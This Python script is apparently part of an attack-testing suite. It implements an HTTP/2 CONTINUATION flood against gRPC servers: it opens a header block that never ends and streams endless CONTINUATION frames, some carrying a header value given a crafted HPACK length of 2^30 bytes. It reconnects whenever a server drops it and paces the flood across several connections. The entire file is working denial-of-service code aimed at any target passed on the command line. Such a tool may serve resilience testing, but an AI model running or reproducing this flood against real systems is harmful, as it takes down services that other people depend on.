"""CONTINUATION flood: a HEADERS frame without END_HEADERS, then CONTINUATION frames that never end it.

--payload bytes: each CONTINUATION carries --frame-size bytes of a header value, so the block grows
until the server refuses it; --payload empty: every CONTINUATION is empty, so only a count of frames
(not of bytes) can stop it. A connection the server ends is replaced by a new one.
"""
import time

import attack
import grpc_wire
import h2frames as f


class Flooder:
    def __init__(self, connection, payload, frame_size):
        self.connection = connection
        start = grpc_wire.encode_request(grpc_wire.new_encoder(), connection.authority, grpc_wire.HEALTH_CHECK)
        if payload == "empty":
            self.frame = f.continuation(1, b"")
        else:
            # The first CONTINUATION starts a literal field (never indexed, name "x-fill") whose
            # declared value is longer than any server allows; the next frames carry its bytes.
            start += b"\x10\x06x-fill" + hpack_length(1 << 30)
            self.frame = f.continuation(1, b"a" * frame_size)
        self.ready = connection.start() and connection.send(f.headers(1, start, end_headers=False))

    def burst(self, frames):
        return self.connection.send(self.frame * frames, timeout=0.5)


def hpack_length(n):
    """An HPACK string length with a 7-bit prefix, no Huffman (RFC 7541 5.1)."""
    if n < 127:
        return bytes([n])
    out = bytearray([127])
    n -= 127
    while n >= 128:
        out.append((n % 128) | 128)
        n //= 128
    out.append(n)
    return bytes(out)


def main():
    p = attack.parser(__doc__, duration=3.0, connections=2, rate_help="CONTINUATION frames per second per connection (0 = as fast as possible)")
    p.add_argument("--payload", choices=["bytes", "empty"], default="bytes", help="what each CONTINUATION carries [bytes]")
    p.add_argument("--frame-size", type=int, default=16384, help="bytes per CONTINUATION with --payload bytes [16384]")
    p.add_argument("--batch", type=int, default=0, help="frames per write [64 KiB worth]")
    p.add_argument("--max-frames", type=int, default=100_000_000, help="stop after this many frames in all")
    args = p.parse_args()
    name = "empty-continuation-flood" if args.payload == "empty" else "continuation-flood"
    report = attack.Report(name, args)
    frame_bytes = 9 + (0 if args.payload == "empty" else args.frame_size)
    batch = args.batch or max(1, 65536 // frame_bytes)
    flooders = [None] * args.connections
    started = time.monotonic()
    sent = 0
    while report.elapsed() < args.duration and sent < args.max_frames:
        for i, flooder in enumerate(flooders):
            if flooder is None or not flooder.connection.usable:
                if flooder is not None:
                    flooder.connection.close()
                    report.sent["reconnects"] += 1
                connection = attack.connect(args.target, report)
                flooders[i] = flooder = Flooder(connection, args.payload, args.frame_size) if connection else None
                if flooder is None or not flooder.ready:
                    time.sleep(0.05)
                    continue
            if flooder.burst(batch):
                sent += batch
            flooder.connection.drain()
        attack.pace(args.rate * args.connections, started, sent)
    report.sent["CONTINUATION frames"] = sent
    report.sent["CONTINUATION bytes"] = sent * (frame_bytes - 9)
    for flooder in flooders:
        if flooder is not None:
            flooder.connection.drain()
            flooder.connection.close()
    report.finish()


if __name__ == "__main__":
    main()
